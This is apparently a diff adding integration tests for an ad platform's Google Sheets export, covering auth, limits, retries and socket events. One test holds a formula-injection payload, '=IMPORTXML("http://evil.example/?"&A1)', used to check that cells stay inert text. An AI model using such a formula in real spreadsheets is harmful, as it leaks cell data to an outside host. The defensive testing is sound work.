@@ -1,0 +1,425 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { exportGoogleSheet, exportRefHeader, getExport, listExports } from '#shared/contracts/exports.ts';
+import type { ExportRun } from '#shared/contracts/exports.ts';
+import { googleCampaigns } from '#shared/contracts/insights.ts';
+import { listNotifications } from '#shared/contracts/notifications.ts';
+import type { Notification } from '#shared/contracts/notifications.ts';
+import { listAdAccounts } from '#shared/contracts/adAccounts.ts';
+import { defaultRange, utcDay } from '#shared/lib/dateRange.ts';
+import { updateProfile } from '#shared/contracts/users.ts';
+import { messages } from '#shared/messages.ts';
+import type { PlatformId } from '#shared/platforms.ts';
+import { connectPlatform } from '#server/testing/connectPlatform.ts';
+import { openSocket } from '#server/testing/openSocket.ts';
+import type { TestSocket } from '#server/testing/openSocket.ts';
+import { clearFaults, orderFaults, readSpreadsheets } from '#server/testing/sandboxControl.ts';
+import type { SandboxSpreadsheet } from '#server/testing/sandboxControl.ts';
+import { startTestApi } from '#server/testing/startTestApi.ts';
+import type { TestApi } from '#server/testing/startTestApi.ts';
+import { waitUntil } from '#server/testing/waitUntil.ts';
+
+const range = defaultRange(utcDay(new Date()));
+const driveFileScope = 'https://www.googleapis.com/auth/drive.file';
+
+type Person = { userId: string; token: string };
+type Row = Record<string, unknown>;
+
+let api: TestApi;
+const sockets: TestSocket[] = [];
+
+beforeAll(async () => {
+  api = await startTestApi();
+});
+afterAll(() => api.close());
+afterEach(async () => {
+  for (const socket of sockets.splice(0)) socket.close();
+  await clearFaults(api.sandbox);
+});
+
+const newPerson = async (...platforms: PlatformId[]): Promise<Person> => {
+  const { user, token } = await api.registerUser();
+  const person = { userId: user._id, token };
+  for (const platform of platforms) await connectPlatform(api, person, platform);
+  return person;
+};
+
+const listen = async (person: Person): Promise<TestSocket> => {
+  const socket = openSocket(api.url, person);
+  sockets.push(socket);
+  expect(await socket.handshake).toBeNull();
+  return socket;
+};
+
+const post = (person: Person, body: unknown, ref?: string) =>
+  api.request(exportGoogleSheet, { token: person.token, body, headers: ref ? { [exportRefHeader]: ref } : {} });
+
+const eventsOf = (socket: TestSocket, event: string) => socket.received.filter((each) => each.event === event);
+
+const nextEvent = (socket: TestSocket, event: string) =>
+  waitUntil(() => eventsOf(socket, event).at(-1)?.payload, { timeoutMs: 20_000, what: `the event ${event}` });
+
+/** The one spreadsheet of an export. */
+const sheetOf = async (exportId: unknown): Promise<SandboxSpreadsheet> => {
+  const made = (await readSpreadsheets(api.sandbox)).filter(
+    (each) => each.appProperties['leadlightExport'] === exportId,
+  );
+  expect(made).toHaveLength(1);
+  const [only] = made;
+  if (!only) throw new Error(`No spreadsheet for the export ${String(exportId)}`);
+  return only;
+};
+
+const rowsOf = async (exportId: unknown) => (await sheetOf(exportId)).sheets[0]?.rows;
+
+const countSheets = async (): Promise<number> => (await readSpreadsheets(api.sandbox)).length;
+
+const googleRows = async (person: Person): Promise<Row[]> => {
+  const accounts = await api.request(listAdAccounts.google, { token: person.token });
+  const customerIds = accounts.body.accounts.map((account: { id: string }) => account.id);
+  const body = { startDate: range.since, endDate: range.until, customerIds };
+  return (await api.request(googleCampaigns, { token: person.token, body })).body.data;
+};
+
+const facebookAccounts = async (person: Person): Promise<string[]> => {
+  const { body } = await api.request(listAdAccounts.facebook, { token: person.token });
+  return body.accounts.map(({ id }: { id: string }) => id.replace('act_', ''));
+};
+
+const serialDay = (day: string): number => (Date.parse(`${day}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000;
+
+/** Empty cells as empty texts, and none at the end of a row: a sheet keeps neither apart. */
+const filledCells = (cells: readonly unknown[]): unknown[] => {
+  const lastFilled = cells.findLastIndex((value) => value !== null && value !== '');
+  return cells.slice(0, lastFilled + 1).map((value) => value ?? '');
+};
+
+const notificationsOf = async (person: Person): Promise<Notification[]> =>
+  (await api.request(listNotifications, { token: person.token })).body.data;
+
+describe('who may export', () => {
+  test.each([
+    ['the export', exportGoogleSheet],
+    ['the list', listExports],
+    ['one export', getExport],
+  ] as const)('%s needs a session', async (_name, endpoint) => {
+    const { status, body } = await api.request(endpoint, {
+      params: { id: 'x' },
+      body: endpoint.method === 'POST' ? [{ a: 1 }] : undefined,
+    });
+    expect([status, body.code]).toEqual([401, 'SESSION_EXPIRED']);
+  });
+
+  test('without the Google grant, or without its permission for files, nothing is made [S8.EXP.2]', async () => {
+    const sheetsBefore = await countSheets();
+    const person = await newPerson();
+    const socket = await listen(person);
+    const refusal = { success: false, code: 'NOT_CONNECTED', message: messages.exports.googleNotConnected };
+    expect(await post(person, { data: [{ name: 'Ada Example' }] })).toEqual({ status: 403, body: refusal });
+
+    socket.socket.emit('google_export_Sheet', {
+      userId: person.userId,
+      platform: 'google',
+      timestamp: new Date().toISOString(),
+      dateRange: range,
+    });
+    expect(await nextEvent(socket, 'export_error')).toMatchObject({ message: messages.exports.googleNotConnected });
+
+    await connectPlatform(api, person, 'google', { untick: [driveFileScope] });
+    expect((await post(person, { data: [{ name: 'Ada Example' }] })).status).toBe(403);
+    expect(await countSheets()).toBe(sheetsBefore);
+  });
+
+  test('another person finds neither the export nor its notice', async () => {
+    const [owner, other] = [await newPerson('google'), await newPerson('google')];
+    const { body } = await post(owner, [{ name: 'Ada Example' }]);
+    const asked = (person: Person, id: string) => api.request(getExport, { token: person.token, params: { id } });
+    expect((await asked(owner, body.data.id)).body.data).toEqual(body.data);
+    expect((await asked(other, body.data.id)).status).toBe(404);
+    expect((await asked(owner, 'no-such-id')).status).toBe(404);
+    expect((await api.request(listExports, { token: owner.token })).body.data.map((run: ExportRun) => run.id)).toEqual([
+      body.data.id,
+    ]);
+    expect((await api.request(listExports, { token: other.token })).body.data).toEqual([]);
+  });
+});
+
+test('one person has at most twenty exports under way', async () => {
+  const person = await newPerson('google');
+  // Each waits three seconds for its event, so all of them are open at once.
+  const posts = Array.from({ length: 21 }, (_, index) => post(person, [{ index }], `facebook:${Date.now() + index}`));
+  const refused = (await Promise.all(posts)).filter(({ status }) => status !== 200);
+  expect(refused).toEqual([{ status: 429, body: expect.objectContaining({ message: messages.exports.tooMany }) }]);
+});
+
+describe('posted rows', () => {
+  test('are written cell by cell, whatever they look like [S7.EXP.1] [S7.EXP.6] [S8.EXP.4]', async () => {
+    const person = await newPerson('google');
+    const socket = await listen(person);
+    const data = [
+      {
+        name: '=IMPORTXML("http://evil.example/?"&A1)',
+        phone: '+49170555',
+        id: '120210987654321098',
+        note: '@cmd',
+        zero: '007',
+        n: 12.5,
+        on: true,
+      },
+      {
+        name: '-1+1',
+        phone: '',
+        id: '1',
+        note: 'NUL\u0000 \ud800 😀',
+        zero: '1/2',
+        n: -3,
+        on: false,
+        extra: null,
+        __v: 0,
+      },
+    ];
+    const { status, body } = await post(person, { data });
+    expect(status).toBe(200);
+    const { url, sheets } = await sheetOf(body.data.id);
+    expect(body).toEqual({
+      success: true,
+      message: 'Google Sheet created with 2 rows',
+      url,
+      data: expect.objectContaining({
+        state: 'complete',
+        rowsWritten: 2,
+        rowsTotal: 2,
+        url,
+        error: null,
+        platform: null,
+      }),
+    });
+    expect(sheets).toHaveLength(1);
+    expect(sheets[0]).toMatchObject({ rowCount: 3, columnCount: 9, frozenRowCount: 1, boldHeader: true, formulas: [] });
+    expect(sheets[0]?.rows.map(filledCells)).toEqual([
+      ['name', 'phone', 'id', 'note', 'zero', 'n', 'on', 'extra', '__v'],
+      ['=IMPORTXML("http://evil.example/?"&A1)', '+49170555', '120210987654321098', '@cmd', '007', 12.5, true],
+      ['-1+1', '', '1', 'NUL \ufffd 😀', '1/2', -3, false, '', 0],
+    ]);
+    // The lead screens have no platform, so no event of one follows.
+    expect((await notificationsOf(person)).map(({ event }) => event)).toEqual(['google_connected']);
+    expect(socket.received).toEqual([]);
+  });
+
+  test('empty ones and too many are refused readably', async () => {
+    const person = await newPerson('google');
+    for (const empty of [{ data: [] }, {}, [], { data: {} }, { data: null }])
+      expect(await post(person, empty)).toMatchObject({
+        status: 400,
+        body: { message: 'No data to export', code: 'NOTHING_TO_EXPORT' },
+      });
+    const tooMany = await post(
+      person,
+      Array.from({ length: 50_001 }, () => ({ a: 1 })),
+    );
+    expect([tooMany.status, tooMany.body.code]).toEqual([413, 'EXPORT_TOO_LARGE']);
+    expect(tooMany.body.message).toContain('50,001 rows, at most 50,000');
+    expect((await post(person, [{ text: 'x'.repeat(50_001) }])).body.message).toContain('50,001 characters');
+    expect((await post(person, ['text'])).body.code).toBe('VALIDATION');
+    expect((await post(person, [{ a: 1 }], 'google')).body.code).toBe('VALIDATION');
+  });
+
+  test('of many chunks come out whole and in order after throttling and lost answers', async () => {
+    const person = await newPerson('google');
+    const rows = Array.from({ length: 12_001 }, (_, index) => ({ index, id: `00${index}`, text: `row ${index}` }));
+    await orderFaults(
+      api.sandbox,
+      // The look for an earlier file passes, then the answer to the create is lost.
+      { provider: 'google', path: '/drive/v3/files', kind: 'slow', delayMs: 0 },
+      { provider: 'google', path: '/drive/v3/files', kind: 'timeout-after-commit' },
+      { provider: 'google', path: 'values:batchUpdate', kind: '429', retryAfterSeconds: 1 },
+      { provider: 'google', path: 'values:batchUpdate', kind: 'timeout-after-commit', count: 2 },
+      { provider: 'google', path: 'values:batchUpdate', kind: 'expired-token' },
+    );
+    const { body } = await post(person, rows);
+    const run: ExportRun = await waitUntil(
+      async () => {
+        const { data } = (await api.request(getExport, { token: person.token, params: { id: body.data.id } })).body;
+        return data.state === 'complete' ? data : null;
+      },
+      { timeoutMs: 40_000, what: 'the end of the export' },
+    );
+    expect(run.rowsWritten).toBe(12_001);
+    expect(await rowsOf(run.id)).toEqual([
+      ['index', 'id', 'text'],
+      ...rows.map(({ index, id, text }) => [index, id, text]),
+    ]);
+  }, 60_000);
+});
+
+describe('a click on Export in Preview', () => {
+  test('posted alone with its ref makes one sheet with typed cells and one completion [S7.SOCK.21] [S7.EXP.2]', async () => {
+    const person = await newPerson('google');
+    const socket = await listen(person);
+    const rows = await googleRows(person);
+    expect(rows).toHaveLength(23);
+    const { body } = await post(person, { data: rows }, `google:${Date.now()}`);
+    const payload = await nextEvent(socket, 'google_export_complete');
+    expect(body).toMatchObject({
+      message: messages.exports.done(23),
+      url: payload['url'],
+      data: { platform: 'google', rowsWritten: 23 },
+    });
+    expect(payload).toEqual({
+      message: 'Google export completed successfully!',
+      url: body.url,
+      error: null,
+      exportId: body.data.id,
+      notificationId: 1 + (await notificationsOf(person)).findIndex(({ event }) => event === 'google_export_complete'),
+    });
+    const [sheet] = (await sheetOf(body.data.id)).sheets;
+    expect(sheet?.rows[0]).toEqual(expect.arrayContaining(['Date', 'Campaign ID', 'Spend']));
+    expect(sheet?.rows.slice(1)).toEqual(
+      rows.map((row) => Object.entries(row).map(([key, value]) => (key === 'date' ? serialDay(String(value)) : value))),
+    );
+    expect(sheet?.formats.map(({ range: cells, format }) => [cells, format])).toEqual(
+      expect.arrayContaining([['Export!A2:A24', { numberFormat: { type: 'DATE', pattern: 'yyyy-mm-dd' } }]]),
+    );
+  });
+
+  test('announced alone repeats the last preview of these dates [S7.SOCK.3] [S7.SOCK.21]', async () => {
+    const person = await newPerson('google');
+    const socket = await listen(person);
+    await googleRows(person);
+    socket.socket.emit('google_export_Sheet', {
+      userId: person.userId,
+      platform: 'google',
+      timestamp: new Date().toISOString(),
+      campaignCount: 23,
+      dateRange: range,
+    });
+    const payload = await nextEvent(socket, 'google_export_complete');
+    expect(await rowsOf(payload['exportId'])).toHaveLength(24);
+  });
+
+  test('announced alone without a preview takes the default accounts [S7.SOCK.4] [S7.SOCK.22]', async () => {
+    const person = await newPerson('google', 'tiktok');
+    const socket = await listen(person);
+    const { body } = await api.request(listAdAccounts.tiktok, { token: person.token });
+    const tiktok = body.accounts.map(({ id }: { id: string }) => id);
+    await api.request(updateProfile, { token: person.token, body: { defaultAccounts: { tiktok } } });
+    socket.socket.emit('tiktok_export_Sheet', {
+      userId: person.userId,
+      platform: 'tiktok',
+      timestamp: String(Date.now()),
+      dateRange: range,
+    });
+    const payload = await nextEvent(socket, 'tiktok_export_complete');
+    expect(payload).toMatchObject({ message: 'TikTok export completed successfully!', error: null });
+    const rows = await rowsOf(payload['exportId']);
+    expect(rows).toHaveLength(13);
+    expect(rows?.[0]?.slice(0, 3)).toEqual(['Campaign ID', 'Campaign Name', 'Advertiser ID']);
+  });
+
+  test('announced alone without a preview or default accounts says so [S7.SOCK.23]', async () => {
+    const person = await newPerson('google');
+    const socket = await listen(person);
+    socket.socket.emit('google_export_Sheet', {
+      userId: person.userId,
+      platform: 'google',
+      timestamp: new Date().toISOString(),
+      dateRange: range,
+    });
+    expect(await nextEvent(socket, 'export_error')).toMatchObject({ message: messages.exports.noAccounts });
+  }, 30_000);
+
+  test.each(['event first', 'POST first', 'at once'] as const)(
+    'both halves, %s, make one sheet and one completion [S7.SOCK.24]',
+    async (order) => {
+      const person = await newPerson('google');
+      const socket = await listen(person);
+      const rows = await googleRows(person);
+      const sheetsBefore = await countSheets();
+      const moment = new Date();
+      const emit = () =>
+        socket.socket.emit('google_export_Sheet', {
+          userId: person.userId,
+          platform: 'google',
+          timestamp: moment.toISOString(),
+          campaignCount: 23,
+          dateRange: range,
+        });
+      // The two spell the moment differently.
+      const send = () => post(person, { data: rows.slice(0, 9) }, `google:${moment.getTime()}`);
+      const runs = async (): Promise<ExportRun[]> =>
+        (await api.request(listExports, { token: person.token })).body.data;
+      if (order !== 'POST first') emit();
+      if (order === 'event first') await waitUntil(async () => (await runs()).length === 1);
+      const posting = send();
+      if (order === 'POST first') {
+        await waitUntil(async () => (await runs()).length === 1);
+        emit();
+      }
+      const { body } = await posting;
+      const payload = await nextEvent(socket, 'google_export_complete');
+      expect(payload['exportId']).toBe(body.data.id);
+      expect(await rowsOf(body.data.id)).toHaveLength(10);
+      // A third try of the same click joins the same export.
+      expect((await send()).body.url).toBe(body.url);
+      expect(await countSheets()).toBe(sheetsBefore + 1);
+      expect((await notificationsOf(person)).filter(({ event }) => event === 'google_export_complete')).toHaveLength(1);
+      expect(eventsOf(socket, 'google_export_complete')).toHaveLength(1);
+    },
+    30_000,
+  );
+
+  test('Facebook exports everything of the accounts and dates, not only what was shown [S7.SOCK.11] [S7.SOCK.20]', async () => {
+    const person = await newPerson('google', 'facebook');
+    const socket = await listen(person);
+    const ad_account_ids = await facebookAccounts(person);
+    const timestamp = new Date().toISOString();
+    socket.socket.emit('fb_export_Sheet', {
+      userId: person.userId,
+      platform: 'facebook',
+      timestamp,
+      ad_account_ids,
+      dateRange: range,
+    });
+    const { body } = await post(
+      person,
+      { data: [{ ad_id: '1', ad_name: 'only what was shown' }] },
+      `facebook:${timestamp}`,
+    );
+    expect(body.message).toBe(messages.exports.done(20));
+    expect(await nextEvent(socket, 'fb_export_complete')).toMatchObject({
+      url: body.url,
+      message: 'Facebook export completed successfully!',
+    });
+    expect(await rowsOf(body.data.id)).toHaveLength(21);
+    expect(eventsOf(socket, 'fb_export_complete')).toHaveLength(1);
+  }, 30_000);
+
+  test('Facebook falls back to the shown rows when the platform fails, and without them to export_error [S7.SOCK.23]', async () => {
+    const person = await newPerson('google', 'facebook');
+    const socket = await listen(person);
+    const ad_account_ids = await facebookAccounts(person);
+    await orderFaults(api.sandbox, { provider: 'facebook', path: '/insights', kind: '500', count: 1000 });
+    const timestamp = new Date().toISOString();
+    const event = { userId: person.userId, platform: 'facebook', ad_account_ids, dateRange: range } as const;
+    socket.socket.emit('fb_export_Sheet', { ...event, timestamp });
+    const { body } = await post(person, { data: [{ ad_id: '1', ad_name: 'shown' }] }, `facebook:${timestamp}`);
+    const { message } = await nextEvent(socket, 'fb_export_complete');
+    expect(message).toContain(messages.exports.shownRowsOnly('facebook'));
+    expect(await rowsOf(body.data.id)).toEqual([
+      ['ad_id', 'ad_name'],
+      ['1', 'shown'],
+    ]);
+
+    socket.socket.emit('fb_export_Sheet', { ...event, timestamp: String(Date.now()) });
+    expect(await nextEvent(socket, 'export_error')).toMatchObject({
+      message: messages.platform.unavailable('facebook'),
+    });
+  }, 60_000);
+
+  test('a foreign ad account in the event is not exported', async () => {
+    const person = await newPerson('google', 'facebook');
+    const socket = await listen(person);
+    const event = { userId: person.userId, ad_account_ids: ['999'], dateRange: range, platform: 'facebook' as const };
+    socket.socket.emit('fb_export_Sheet', { ...event, timestamp: new Date().toISOString() });
+    expect(await nextEvent(socket, 'export_error')).toMatchObject({ message: messages.platform.foreignAccount });
+  }, 30_000);
+});
